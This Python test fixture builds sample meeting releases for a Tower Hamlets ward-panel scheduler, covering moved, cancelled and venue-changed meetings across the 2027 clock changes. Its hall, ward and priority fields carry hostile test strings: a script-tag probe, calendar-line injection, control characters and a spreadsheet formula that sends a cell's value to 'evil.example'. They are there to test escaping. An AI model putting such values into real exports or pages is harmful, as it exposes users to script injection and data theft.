"""A release to publish, small enough to read: every kind of meeting, both clock changes of 2027, and hostile text."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any
from zoneinfo import ZoneInfo

from scheduler.basis import ACCESS
from scheduler.facts import Acronym, Known, Priority, Role
from scheduler.place import Position
from scheduler.plan import MeetingState
from scheduler.policy import Session
from scheduler.release.value import (
    Access,
    Change,
    ChangeKind,
    Hall,
    PastFacts,
    PostcodeArea,
    PublicWard,
    Release,
    ReleasedMeeting,
)

LONDON = ZoneInfo("Europe/London")
FIRST = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
SECOND = datetime(2027, 1, 11, 9, 30, tzinfo=UTC)
HOSTILE = 'Ann\'s "Hall"; <script>alert(1)</script>, \\n & \u200fשלום\u200e 🎪\r\nBEGIN:VEVENT\x00]]>'
HOSTILE_LINE = 'Ann\'s "Hall"; <script>alert(1)</script>, \\n & \u200fשלום\u200e 🎪 BEGIN:VEVENT]]>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
WEEKDAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")


def at(text: str) -> datetime:
    """`Tue 2027-03-02 19:00` as an aware London time; the weekday is checked."""
    weekday, _, moment = text.partition(" ")
    local = datetime.strptime(moment, "%Y-%m-%d %H:%M").replace(tzinfo=LONDON)
    assert WEEKDAYS[local.weekday()] == weekday, text
    return local


def a_hall(venue_id: str = "bow-library", **facts: Any) -> Hall:
    plain = Hall(
        venue_id=venue_id,
        name="Bow Library",
        address="1 Roman Road",
        postcode="E3 5LU",
        lat=51.5301,
        lon=-0.0312,
        position=Position.DOOR,
        access=Access(Known.YES, Known.UNKNOWN, Known.NO, "Use the side door"),
    )
    return with_facts(plain, **facts)


def with_facts(hall: Hall, **facts: Any) -> Hall:
    """The hall with other facts; those of access have been checked."""
    access = {name: facts.pop(name) for name in ACCESS if name in facts}
    return replace(hall, access=replace(hall.access, **access), **facts)


HALL = a_hall()
TOWN_HALL = a_hall(
    "town-hall",
    name="Town Hall",
    address="160 Whitechapel Road",
    postcode="E1 1BJ",
    entrance="",
    position=Position.POSTCODE,
)
EMPTY_HALL = a_hall("empty-hall", name="Empty Hall", address="2 Back Street", postcode="E3 9ZZ")
HOSTILE_HALL = a_hall("hostile", name=HOSTILE, address=FORMULA, entrance="@SUM(1+1)", lat=51.5, lon=-0.00001)
BOW = PublicWard("E05009317", "Bow East", "bow-east", 51.53, -0.02, ("E05009328",))
MILE_END = PublicWard("E05009328", "Mile End", "mile-end", 51.525, -0.035, ("E05009317",), ("globe-town",))
EMPTY_WARD = PublicWard("E05009399", "Quiet Ward", "quiet-ward", 51.52, -0.03, ())
HOSTILE_WARD = PublicWard("E05009330", f"=St {HOSTILE}", "st-hostile", 51.51, -0.04, ())


def a_meeting(meeting_id: str, starts: str, **facts: Any) -> ReleasedMeeting:
    """One evening meeting of 90 minutes, as first released; any fact can be changed by name."""
    starts_at = at(starts)
    plain = ReleasedMeeting(
        meeting_id=meeting_id,
        ward_code=meeting_id.split("-")[1],
        session=Session.EVENING,
        starts_at=starts_at,
        ends_at=starts_at + timedelta(minutes=90),
        hall=HALL,
        attending=(Role.SERGEANT, Role.DWO),
        state=MeetingState.CONFIRMED,
        sequence=0,
        first_released_at=FIRST,
        last_changed_at=FIRST,
    )
    return replace(plain, **facts)


def _meetings() -> tuple[ReleasedMeeting, ...]:
    was = a_meeting("2027-E05009328-1", "Tue 2027-03-02 19:00")
    past = PastFacts(was.starts_at, was.ends_at, was.hall)
    changed = {"sequence": 1, "last_changed_at": SECOND}
    same_time = at("Wed 2027-06-16 18:30")
    return (
        a_meeting("2027-E05009317-1", "Thu 2027-03-25 19:00"),
        a_meeting("2027-E05009328-1", "Tue 2027-03-30 18:30", was=past, hall=TOWN_HALL, **changed),
        a_meeting("2027-E05009317-2", "Sat 2027-04-24 11:00", session=Session.WEEKEND_DAYTIME, attending=tuple(Role)),
        a_meeting("2027-E05009330-1", "Mon 2027-05-10 12:00", session=Session.WEEKDAY_DAYTIME, hall=HOSTILE_HALL),
        a_meeting(
            "2027-E05009328-2",
            "Wed 2027-06-16 18:30",
            hall=TOWN_HALL,
            was=PastFacts(same_time, same_time + timedelta(minutes=90), HALL),
            **changed,
        ),
        a_meeting("2027-E05009317-3", "Thu 2027-10-28 19:00"),
        a_meeting("2027-E05009328-3", "Wed 2027-11-03 19:00", state=MeetingState.CANCELLED, **changed),
        a_meeting("2027-E05009317-4", "Thu 2027-12-02 19:00"),
    )


def a_release(**facts: Any) -> Release:
    """The second release of the year; any fact can be changed by name."""
    meetings = _meetings()
    plain = Release(
        number=2,
        released_at=SECOND,
        borough="Tower Hamlets",
        borough_code="E09000030",
        site_url="https://panels.example.org/wp",
        contact_email="panels@example.org",
        timezone="Europe/London",
        languages=("en", "bn"),
        first_day=date(2027, 1, 1),
        last_day=date(2027, 12, 31),
        wards=(BOW, MILE_END, EMPTY_WARD, HOSTILE_WARD),
        meetings=meetings,
        board=(at("Tue 2027-03-30 18:00"),),
        acronyms=(Acronym("DWO", "Dedicated Ward Officer", "A police officer who works in one ward."),),
        changes=_changes(meetings),
        halls=(HALL, EMPTY_HALL, HOSTILE_HALL, TOWN_HALL),
        postcodes=(
            PostcodeArea("E3", "E05009317", "2AA 2AB"),
            PostcodeArea("E3", "E05009328", "4AA"),
            PostcodeArea("E1W", "E05009330", "1AA"),
        ),
        priorities=(
            Priority("E05009317", date(2026, 9, 1), "Noise at night", "", "illustrative"),
            Priority("E05009317", date(2026, 6, 1), "Bike theft", "The team marked 40 bikes.", "illustrative"),
            Priority("E05009330", date(2026, 6, 1), HOSTILE, HOSTILE),
        ),
    )
    return replace(plain, **facts)


def _changes(meetings: tuple[ReleasedMeeting, ...]) -> tuple[Change, ...]:
    kinds = {
        "2027-E05009328-1": ChangeKind.MOVED,
        "2027-E05009328-2": ChangeKind.VENUE_CHANGED,
        "2027-E05009328-3": ChangeKind.CANCELLED,
    }
    return tuple(_change(kinds.get(after.meeting_id, ChangeKind.UNCHANGED), after) for after in meetings)


def _change(kind: ChangeKind, after: ReleasedMeeting) -> Change:
    if kind is ChangeKind.UNCHANGED:
        return Change(kind, after, after)
    before = replace(after, state=MeetingState.CONFIRMED, sequence=0, last_changed_at=FIRST, was=None)
    if after.was:
        before = replace(before, starts_at=after.was.starts_at, ends_at=after.was.ends_at, hall=after.was.hall)
    return Change(kind, before, after)


def moved(release: Release, meeting_id: str, starts: str) -> Release:
    """The next release, in which one meeting has moved and nothing else has changed."""
    later = release.released_at + timedelta(days=7)
    meetings = [
        _moved(meeting, starts, later) if meeting.meeting_id == meeting_id else meeting for meeting in release.meetings
    ]
    meetings.sort(key=lambda meeting: (meeting.starts_at, meeting.ward_code))
    return replace(release, number=release.number + 1, released_at=later, meetings=tuple(meetings))


def _moved(meeting: ReleasedMeeting, starts: str, later: datetime) -> ReleasedMeeting:
    starts_at = at(starts)
    return replace(
        meeting,
        starts_at=starts_at,
        ends_at=starts_at + timedelta(minutes=90),
        sequence=meeting.sequence + 1,
        last_changed_at=later,
        was=PastFacts(meeting.starts_at, meeting.ends_at, meeting.hall),
    )
